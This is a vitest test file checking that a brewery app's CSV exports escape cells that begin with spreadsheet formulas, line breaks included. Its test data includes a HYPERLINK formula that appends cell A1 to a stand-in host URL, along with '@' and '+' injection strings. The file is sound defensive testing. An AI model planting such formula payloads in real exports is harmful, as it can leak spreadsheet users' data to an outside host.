// Every CSV the app writes neutralises formulae on the first character, even in cells that hold a
// line break (OWASP, "CSV Injection": no cell may begin with = + - @ TAB or CR; the remedy is a
// leading apostrophe). Each export gets hostile text from a field people type, and papaparse —
// an RFC 4180 reader outside the app's writer — reads the cell back.
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { POST as postEvent } from "../../app/api/events/route";
import { POST as postParty } from "../../app/api/parties/route";
import { GET as getTransactions } from "../../app/api/records/transactions.csv/route";
import { POST as postAdjustment } from "../../app/api/suppliers/[partyId]/adjustments/route";
import { GET as getStatementCsv } from "../../app/api/suppliers/[partyId]/statements/[number]/statement.csv/route";
import { POST as postStatement } from "../../app/api/suppliers/[partyId]/statements/route";
import { GET as getRecall } from "../../app/api/trace/[code]/recall.csv/route";
import { call, jsonRequest, signInAs } from "../support/api";

/** The example: a formula that ends in a quoted line break, which papaparse's own check lets through. */
const HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"Open the slip")&"\n"';
const PLUS_WITH_BREAK = "+81 790 00 0000\nask for the yard";
const AT_WITH_BREAK = "@SUM(1+1)\r\nslip";

let admin: string, brewer: string;
let shipmentId = 0;
let buyerName = "";

/** The day of an instant in Japan, as the exports write dates. */
const japanDay = (at: string) => new Date(Date.parse(at) + 9 * 3_600_000).toISOString().slice(0, 10);
const SHIPPED_AT = "2026-12-02T10:00:00+09:00";

async function csvOf(response: Response) {
  expect(response.status).toBe(200);
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
  const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ""), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

beforeAll(async () => {
  admin = await signInAs("admin@example.com");
  brewer = await signInAs("brewer@example.com");
  // A buyer whose name is a formula (the office types party names), and a shipment to it whose
  // place and slip number are too: the brewery ships part of the seeded polished rice it holds.
  const party = await call(postParty, jsonRequest("/api/parties", { cookie: admin, body: { kind: "buyer", name: `${HYPERLINK}Sake Shop`, address: "Harbour Street 2", region: "Hyogo" } }));
  expect(party.status, JSON.stringify(party.body)).toBe(201);
  buyerName = `${HYPERLINK}Sake Shop`;
  const shipped = await call(postEvent, jsonRequest("/api/events", { cookie: brewer, body: { step: "shipping", at: SHIPPED_AT, inputs: [{ lot: "P26-0001", quantity: 1 }], counterpartyId: party.body.id, place: PLUS_WITH_BREAK, referenceDoc: AT_WITH_BREAK } }));
  expect(shipped.status, JSON.stringify(shipped.body)).toBe(201);
  shipmentId = shipped.body.id;
});

describe("CSV exports escape a formula on the first character, line breaks or not", () => {
  it("recall spreadsheet: the shipment's place and delivery slip", async () => {
    const rows = await csvOf(await getRecall(jsonRequest("/api/trace/P26-0001/recall.csv", { cookie: admin }), { params: Promise.resolve({ code: "P26-0001" }) }));
    const row = rows.find((r) => r["Event ID"] === String(shipmentId));
    expect(row).toBeDefined();
    expect(row!.Location).toBe(`'${PLUS_WITH_BREAK}`);
    expect(row!["Reference document"]).toBe(`'${AT_WITH_BREAK}`);
    expect(row!.Counterparty).toBe(`'${buyerName}`);
  });

  it("receipts and shipments record: the counterparty's name, the place and the slip", async () => {
    const day = japanDay(SHIPPED_AT);
    const rows = await csvOf(await getTransactions(jsonRequest(`/api/records/transactions.csv?from=${day}&to=${day}`, { cookie: admin })));
    const row = rows.find((r) => r.Event === String(shipmentId));
    expect(row).toBeDefined();
    expect(row!.Counterparty).toBe(`'${buyerName}`);
    expect(row!.Place).toBe(`'${PLUS_WITH_BREAK}`);
    expect(row!["Delivery slip"]).toBe(`'${AT_WITH_BREAK}`);
    // Numbers stay numbers.
    expect(row!.Quantity).toBe("1");
  });

  it("supplier statement: an adjustment's reason, while negative amounts stay numbers", async () => {
    const day = japanDay(new Date().toISOString());
    const adjust = (amountYen: number, reason: string) =>
      call(postAdjustment, jsonRequest("/api/suppliers/grower-coop/adjustments", { cookie: admin, body: { date: day, amountYen, taxRatePct: 0, reason } }), { partyId: "grower-coop" });
    expect((await adjust(-1_200, HYPERLINK)).status).toBe(201);
    expect((await adjust(800, "-5 bags short\n(see slip)")).status).toBe(201);
    const issued = await call(postStatement, jsonRequest("/api/suppliers/grower-coop/statements", { cookie: admin, body: { from: day, to: day } }), { partyId: "grower-coop" });
    expect(issued.status, JSON.stringify(issued.body)).toBe(201);
    const number = issued.body.number as string;
    const rows = await csvOf(await getStatementCsv(jsonRequest(`/api/suppliers/grower-coop/statements/${number}/statement.csv`, { cookie: admin }), { params: Promise.resolve({ partyId: "grower-coop", number }) }));
    const descriptions = rows.filter((r) => r.Entry === "Adjustment").map((r) => [r.Description, r["Amount (JPY)"]]);
    expect(descriptions).toEqual([
      [`'${HYPERLINK}`, "-1200"],
      ["'-5 bags short\n(see slip)", "800"],
    ]);
  });
});
